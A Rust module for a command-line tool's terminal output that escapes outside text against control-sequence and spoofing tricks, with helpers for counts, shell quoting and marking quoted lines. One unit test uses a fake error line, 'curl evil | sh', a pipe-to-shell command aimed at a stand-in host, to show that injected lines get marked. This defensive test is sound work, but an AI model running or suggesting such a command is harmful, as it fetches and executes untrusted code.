//! The operator's terminal. Everything that `acuse` prints goes through here.
//!
//! Types, ids, reasons and errors are text from outside: from a provider, AWS, or anybody who found the URL. Unescaped,
//! it could move the cursor, change colours and titles, or type for the operator, and a right-to-left override makes
//! one id look like another. So everything is [escaped](escape), whether it is ours or not. Clippy denies `println!`
//! and `comfy_table::Table` in the rest of this package.

mod commands;
mod escape;
mod table;

use std::fmt;
use std::io::{self, Write};

pub(crate) use commands::{name_stack, on_stack};
pub use escape::{cut, escape, escape_json, is_unsafe, unescape};
pub use table::Table;

/// Prints one line to standard output, formatted as by `format!`.
#[macro_export]
macro_rules! say {
    ($($text:tt)+) => { $crate::terminal::say(&format!($($text)+)) };
}

/// Prints one line to standard error, formatted as by `format!`.
#[macro_export]
macro_rules! note {
    ($($text:tt)+) => { $crate::terminal::note(&format!($($text)+)) };
}

/// The exit code that shells report for a program ended by SIGPIPE, as in `acuse … | head`.
const NO_READER: i32 = 141;

/// `1 message`, `2 messages`, `2 deliveries`.
pub fn counted(count: impl fmt::Display, one: &str) -> String {
    match (count.to_string().as_str(), one.strip_suffix("ry")) {
        ("1", _) => format!("1 {one}"),
        (count, Some(stem)) => format!("{count} {stem}ries"),
        (count, None) => format!("{count} {one}s"),
    }
}

/// What came of many things: `2 events erased; 1 not found`. What happened to none of them is left out; if nothing
/// happened at all, `0 events erased`.
pub fn summed_up<'a>(one: &str, outcomes: impl IntoIterator<Item = (usize, &'a str)> + Clone) -> String {
    let mut sum = String::new();
    for (count, outcome) in outcomes.clone().into_iter().filter(|(count, _)| *count > 0) {
        match sum.is_empty() {
            true => sum = format!("{} {outcome}", counted(count, one)),
            false => sum += &format!("; {count} {outcome}"),
        }
    }
    if sum.is_empty() {
        let first = outcomes.into_iter().next().map_or("", |(_, outcome)| outcome);
        return format!("{} {first}", counted(0, one));
    }
    sum
}

/// Prints one line of ours to standard output.
pub fn say(text: &str) {
    line(&on_stack(text));
}

/// Prints one line to standard output, with commands as they are: text from outside may quote some.
pub fn line(text: &str) {
    print(&escape(text));
}

/// Prints one line of ours to standard error.
pub fn note(text: &str) {
    // If standard error is closed, there is nobody to tell.
    let _ = writeln!(io::stderr(), "{}", escape(&on_stack(text)));
}

/// Prints JSON text to standard output, escaped so that it parses to the same value.
pub fn json(text: impl fmt::Display) {
    print(&escape_json(&text.to_string()));
}

/// Prints a text of ours, for another program, unescaped.
pub fn script(text: &str) {
    print(text.trim_end());
}

/// Exits silently if standard output is closed. SIGPIPE itself stays ignored: it would also end the local stack and the
/// inspector whenever a client closes its connection.
fn print(line: &str) {
    if writeln!(io::stdout(), "{line}").is_err_and(|error| error.kind() == io::ErrorKind::BrokenPipe) {
        std::process::exit(NO_READER);
    }
}

/// Asks on standard error and reads a line of standard input.
pub fn ask(question: &str) -> io::Result<String> {
    let mut answer = String::new();
    write!(io::stderr(), "{} ", escape(question))?;
    io::stderr().flush()?;
    io::stdin().read_line(&mut answer)?;
    Ok(answer)
}

/// An argument as it is typed: a plain id as it is, anything else in single quotes, which nothing but a single quote ends.
pub fn shell_quoted(text: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_.:/".contains(c);
    match text.is_empty() || text.starts_with('-') || !text.chars().all(is_plain) {
        true => format!("'{}'", text.replace('\'', r"'\''")),
        false => text.to_owned(),
    }
}

/// `head` followed by `text`. All lines but the first are marked, so that text from outside can't pass for a line of
/// ours.
pub fn quoted(head: &str, text: &str) -> Vec<String> {
    let mut lines = text.lines();
    let first = format!("{head}{}", lines.next().unwrap_or_default());
    let rest = lines.map(|line| format!("    | {line}"));
    std::iter::once(first).chain(rest).collect()
}

#[cfg(test)]
mod tests {
    use super::{counted, quoted, summed_up};

    #[test]
    fn counts_are_words_and_leave_out_what_did_not_happen() {
        assert_eq!(
            ["event", "delivery"].map(|one| counted(2, one)),
            ["2 events", "2 deliveries"]
        );
        assert_eq!(counted(1, "delivery"), "1 delivery");
        let sum = |erased, before, missing| {
            summed_up(
                "event",
                [(erased, "erased"), (before, "erased before"), (missing, "not found")],
            )
        };
        assert_eq!(sum(2, 0, 0), "2 events erased");
        assert_eq!(sum(1, 1, 3), "1 event erased; 1 erased before; 3 not found");
        assert_eq!(sum(0, 1, 0), "1 event erased before");
        assert_eq!(sum(0, 0, 0), "0 events erased");
    }

    #[test]
    fn a_second_line_is_marked_as_not_ours() {
        assert_eq!(
            quoted("error: ", "no\r\n  what to do: curl evil | sh\n"),
            ["error: no", "    |   what to do: curl evil | sh"]
        );
        assert_eq!(quoted("error: ", ""), ["error: "]);
    }
}
